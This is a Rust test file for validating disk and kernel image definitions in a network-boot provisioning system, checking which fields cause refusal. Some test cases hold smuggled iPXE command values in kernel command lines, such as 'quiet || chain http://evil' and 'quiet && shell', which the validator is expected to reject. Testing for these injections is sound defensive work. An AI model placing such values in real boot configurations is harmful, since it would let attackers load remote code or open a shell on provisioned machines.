//! Images: which ones are refused, and which report progress.

use model::image::{Artifact, DiskFormat, Image, ImageContent};
use model::time::Timestamp;

fn artifact(url: Option<&str>) -> Artifact {
    Artifact { sha256: "a".repeat(64), size: 1, url: url.map(String::from) }
}

fn kernel(cmdline: &str) -> ImageContent {
    ImageContent::Kernel { kernel: artifact(None), initrd: None, cmdline: cmdline.into() }
}

#[test]
fn what_is_wrong_is_named() {
    let raw = |file| ImageContent::Disk { format: DiskFormat::Raw, file };
    let cases = [
        ("debian-12", raw(artifact(None)), None),
        ("debian-12", raw(artifact(Some("http://10.0.0.1/x"))), None),
        ("Debian 12", raw(artifact(None)), Some("image.name")),
        (
            "d",
            raw(Artifact { sha256: "A".repeat(64), ..artifact(None) }),
            Some("image.file.sha256"),
        ),
        ("d", raw(Artifact { size: 0, ..artifact(None) }), Some("image.file.size")),
        ("d", raw(artifact(Some("https://10.0.0.1/x"))), Some("image.file.url")),
        ("d", raw(artifact(Some("http://"))), Some("image.file.url")),
        ("d", raw(artifact(Some("http://images.example/x"))), Some("image.file.url")),
        ("d", raw(artifact(Some("http://10.0.0.1/a b"))), Some("image.file.url")),
        ("d", raw(artifact(Some("http://[fd00::1]:80/x"))), None),
        ("d", kernel("console=ttyS0 a={url}/x token={token}"), None),
        ("d", kernel("a={tokn}"), Some("image.cmdline")),
        ("d", kernel("a\nb"), Some("image.cmdline")),
        // iPXE would execute what comes after it, or fill something in.
        ("d", kernel("quiet || chain http://evil"), Some("image.cmdline")),
        ("d", kernel("quiet && shell"), Some("image.cmdline")),
        ("d", kernel("quiet ; shell"), Some("image.cmdline")),
        ("d", kernel("quiet # x"), Some("image.cmdline")),
        ("d", kernel("a=${net0/mac}"), Some("image.cmdline")),
        ("d", kernel("a=$x"), Some("image.cmdline")),
        ("d", kernel("a='b c'"), Some("image.cmdline")),
        ("d", kernel("a\tb"), Some("image.cmdline")),
        ("d", kernel("ds=nocloud;s={url}/seed?m={mac} console=ttyS0,115200n8"), None),
        (
            "d",
            ImageContent::Kernel {
                kernel: artifact(Some("http://10.0.0.1/k")),
                initrd: None,
                cmdline: String::new(),
            },
            Some("image.kernel"),
        ),
    ];
    for (name, body, wrong) in cases {
        let image = Image { name: name.into(), body, created_at: Timestamp::default() };
        let shown = format!("{image:?}");
        let field = image.checked().err().and_then(|refusal| refusal.field);
        assert_eq!(field.as_deref(), wrong, "{shown}");
    }
}

#[test]
fn only_who_gets_a_token_can_phone_home() {
    assert!(kernel("t={token}").reports_progress());
    assert!(!kernel("quiet").reports_progress());
    assert!(!ImageContent::Iso { file: artifact(None) }.reports_progress());
}
